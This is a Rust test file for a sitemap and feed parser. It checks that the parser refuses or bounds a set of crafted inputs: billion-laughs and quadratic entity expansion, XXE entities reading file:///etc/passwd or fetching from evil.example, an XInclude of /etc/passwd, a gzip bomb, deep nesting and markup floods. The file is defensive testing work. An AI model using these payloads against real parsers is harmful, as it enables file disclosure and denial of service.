//! Files made to cost: entity attacks, bombs, floods. Each gives what it may and no more, within bounded work; a scan
//! that were quadratic would take minutes on these sizes.

use super::{PROBLEMS_MAX, ProblemKind, Sitemap, SitemapKind, SitemapLimits};
use flate2::Compression;
use flate2::write::GzEncoder;
use proptest::prelude::*;
use std::fmt::Write as _;
use std::io::Write as _;

fn parse_within(document: &[u8], limits: SitemapLimits) -> Sitemap {
    let sitemap = Sitemap::parse("http://e.com/sitemap.xml", Some("text/xml"), document, limits);
    assert!(sitemap.entries.len() <= limits.entries_max);
    assert!(sitemap.problems.len() <= PROBLEMS_MAX);
    assert!(sitemap.problems.iter().all(|problem| problem.text.chars().count() <= 120));
    sitemap
}

fn parse(document: &str) -> Sitemap {
    parse_within(document.as_bytes(), SitemapLimits::default())
}

fn has(sitemap: &Sitemap, kind: ProblemKind) -> bool {
    sitemap.problems.iter().any(|problem| problem.kind == kind)
}

/// A urlset of one entry with this location, behind this document type.
fn with_doctype(subset: &str, location: &str) -> String {
    format!("<?xml version='1.0'?><!DOCTYPE x [{subset}]><urlset><url><loc>{location}</loc></url></urlset>")
}

#[test]
fn billion_laughs_are_refused_and_nothing_is_expanded() {
    let mut subset = "<!ENTITY lol0 'lol'>".to_owned();
    for i in 1..10 {
        let _ = write!(subset, "<!ENTITY lol{i} '{}'>", format!("&lol{};", i - 1).repeat(10));
    }
    let sitemap = parse(&with_doctype(&subset, "http://e.com/&lol9;"));
    assert_eq!((sitemap.kind, sitemap.entries.len()), (SitemapKind::Unknown, 0));
    assert!(has(&sitemap, ProblemKind::EntityBomb));
}

#[test]
fn quadratic_blow_up_expands_to_nothing() {
    let subset = format!("<!ENTITY a '{}'>", "a".repeat(100_000));
    let sitemap = parse(&with_doctype(&subset, &format!("http://e.com/{}", "&a;".repeat(100_000))));
    assert_eq!(sitemap.entries[0].loc, "http://e.com/");
    assert!(has(&sitemap, ProblemKind::UnknownEntity));
}

#[test]
fn external_entities_and_inclusions_are_not_even_named() {
    let subset = "<!ENTITY xxe SYSTEM 'file:///etc/passwd'><!ENTITY net PUBLIC 'x' 'http://evil.example/'>";
    assert_eq!(parse(&with_doctype(subset, "http://e.com/&xxe;&net;")).entries[0].loc, "http://e.com/");
    assert!(parse(&with_doctype(subset, "&xxe;")).entries.is_empty());
    let parameters = "<!ENTITY % dtd SYSTEM 'http://evil.example/x.dtd'> %dtd;";
    assert_eq!(parse(&with_doctype(parameters, "http://e.com/1")).entries[0].loc, "http://e.com/1");
    let exfiltration = "<!ENTITY % f SYSTEM 'file:///etc/passwd'><!ENTITY % e '%f;'>";
    assert!(has(&parse(&with_doctype(exfiltration, "http://e.com/1")), ProblemKind::EntityBomb));
    let inclusion = parse(
        "<urlset xmlns:xi='http://www.w3.org/2001/XInclude'><url><loc>http://e.com/1</loc></url>\
         <url><loc><xi:include href='file:///etc/passwd' parse='text'/></loc></url></urlset>",
    );
    assert_eq!(inclusion.entries.len(), 1);
    assert!(has(&inclusion, ProblemKind::NoLocation));
}

#[test]
fn a_document_type_within_an_entry_is_no_attack() {
    let inner = "<!DOCTYPE html [<!ENTITY a '&b;'>]><html><body>x</body></html>";
    let rss = parse(&format!(
        "<rss><channel><item><description>{inner}</description><link>http://e.com/1</link></item>\
         <item><link>http://e.com/2</link></item></channel></rss>"
    ));
    assert_eq!(rss.entries.len(), 2);
}

#[test]
fn floods_of_markup_take_linear_time() {
    const BYTES: usize = 1 << 16;
    for piece in [
        "<",
        "<a",
        "<a ",
        "</",
        "<!--",
        "<!",
        "<!DOCTYPE '",
        "<![CDATA[",
        "<?",
        "&",
        "&#",
        "&a;",
        "<a b='",
        "<a '>",
        "'>",
        "]>",
        "<url>",
        "<loc>",
        "<url><loc>",
        "<url><x:y>",
        "</url>",
        "<loc><url>",
        "<urlset><url><loc>http://e.com/",
        "\n",
        "<entry><link href='",
        "xmlns:a='b' ",
        "<a xmlns:b='c'>",
        "http://",
    ] {
        for before in ["", "<urlset>", "<urlset><url><loc>", "<feed><entry>", "<a "] {
            parse(&format!("{before}{}", piece.repeat(BYTES / piece.len())));
        }
    }
}

#[test]
fn depth_costs_no_stack() {
    let depth = 400_000;
    let document = format!("<urlset><url>{}<loc>http://e.com/1</loc>", "<x:a>".repeat(depth));
    assert!(parse(&format!("{document}{}</url></urlset>", "</x:a>".repeat(depth))).entries.is_empty());
    assert_eq!(parse(&format!("{document}</url></urlset>")).entries.len(), 1);
}

#[test]
fn the_fifty_thousand_first_entries_are_kept() {
    let mut document = "<urlset>".to_owned();
    for i in 0..50_001 {
        let _ = write!(document, "<url><loc>http://e.com/{i}</loc></url>");
    }
    let sitemap = parse(&document);
    assert_eq!(sitemap.entries.len(), 50_000);
    assert_eq!(sitemap.entries[49_999].loc, "http://e.com/49999");
    assert!(sitemap.truncated && has(&sitemap, ProblemKind::TooManyEntries));
}

#[test]
fn indexes_and_lists_are_cut_as_well() {
    let limits = SitemapLimits { entries_max: 1000, ..SitemapLimits::default() };
    let entries: String =
        (0..1001).map(|i| format!("<sitemap><loc>http://e.com/{i}</loc></sitemap>")).collect();
    let list: String = (0..1001).map(|i| format!("http://e.com/{i}\n")).collect();
    for document in [format!("<sitemapindex>{entries}</sitemapindex>"), list] {
        let sitemap = parse_within(document.as_bytes(), limits);
        assert_eq!((sitemap.entries.len(), sitemap.truncated), (1000, true));
        assert!(has(&sitemap, ProblemKind::TooManyEntries));
    }
}

#[test]
fn exactly_the_limits_are_no_problem() {
    let limits = SitemapLimits { bytes_max: 70, entries_max: 2 };
    let document = "<urlset><url><loc>http://a/</loc></url><url><loc>http://b/</loc></url>";
    assert_eq!(document.len(), 70);
    let sitemap = parse_within(document.as_bytes(), limits);
    assert!(!sitemap.truncated && sitemap.entries.len() == 2);
    let sitemap = parse_within(format!("{document}\n").as_bytes(), limits);
    assert!(sitemap.truncated && has(&sitemap, ProblemKind::TooManyBytes));
    assert_eq!(sitemap.entries.len(), 2);
}

#[test]
fn one_byte_over_fifty_megabytes_is_cut() {
    let limits = SitemapLimits::default();
    let mut document = b"<urlset><url><loc>http://e.com/1</loc></url><!--".to_vec();
    document.resize(limits.bytes_max, b' ');
    let fits = parse_within(&document, limits);
    assert!(!fits.truncated && fits.entries.len() == 1);
    document.push(b' ');
    let cut = parse_within(&document, limits);
    assert!(cut.truncated && cut.entries.len() == 1);
    assert!(has(&cut, ProblemKind::TooManyBytes));
}

#[test]
fn a_gzip_bomb_is_read_up_to_the_limit() {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(b"<urlset><url><loc>http://e.com/1</loc></url>").unwrap();
    let blank = vec![b' '; 1 << 20];
    for _ in 0..60 {
        encoder.write_all(&blank).unwrap();
    }
    let bomb = encoder.finish().unwrap();
    assert!(bomb.len() < 100_000);
    let sitemap = parse_within(&bomb, SitemapLimits::default());
    assert!(sitemap.truncated && has(&sitemap, ProblemKind::TooManyBytes));
    assert_eq!(sitemap.entries.len(), 1);
}

#[test]
fn problems_are_counted_beyond_what_is_listed() {
    let document = format!("<urlset>{}</urlset>", "<url><loc>x</loc></url>".repeat(1000));
    let sitemap = parse(&document);
    assert_eq!((sitemap.problems.len(), sitemap.problems_left_out), (PROBLEMS_MAX, 1000 - PROBLEMS_MAX));
}

#[test]
fn control_characters_do_not_reach_a_report() {
    let sitemap = parse("<urlset><url><loc>x\u{1B}[2J\nHost: y\r\n</loc></url></urlset>");
    assert!(sitemap.problems.iter().all(|problem| !problem.to_string().contains(char::is_control)));
}

/// Pieces of sitemaps and feeds, put together anyhow.
fn shuffled() -> impl Strategy<Value = String> {
    const PIECES: [&str; 34] = [
        "<urlset>",
        "</urlset>",
        "<url>",
        "</url>",
        "<loc>",
        "</loc>",
        "<lastmod>",
        "</lastmod>",
        "<sitemapindex>",
        "<sitemap>",
        "</sitemap>",
        "<rss>",
        "<item>",
        "</item>",
        "<link>",
        "</link>",
        "<feed>",
        "<entry>",
        "</entry>",
        "<link href='http://e.com/a'/>",
        "<image:image>",
        "</image:image>",
        "<image:loc>",
        "http://e.com/",
        "2020-01-01",
        "&amp;",
        "&x;",
        "<![CDATA[",
        "]]>",
        "<!--",
        "-->",
        "<!DOCTYPE x [",
        "]>",
        " é\u{0}\n",
    ];
    prop::collection::vec(0..PIECES.len(), 0..40)
        .prop_map(|choice| choice.into_iter().map(|i| PIECES[i]).collect::<String>())
}

proptest! {
    #[test]
    fn any_bytes_are_read_within_the_limits(bytes in prop::collection::vec(any::<u8>(), 0..200), bytes_max in 0_usize..100) {
        parse_within(&bytes, SitemapLimits { bytes_max, entries_max: 3 });
        let packed = [&[0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 3][..], &bytes].concat();
        parse_within(&packed, SitemapLimits { bytes_max, entries_max: 3 });
    }

    #[test]
    fn any_mixture_of_pieces_is_read_within_the_limits(document in shuffled(), entries_max in 0_usize..4) {
        let limits = SitemapLimits { bytes_max: 1000, entries_max };
        let sitemap = parse_within(document.as_bytes(), limits);
        for entry in &sitemap.entries {
            prop_assert!(entry.url.as_str().starts_with("http"));
        }
    }
}
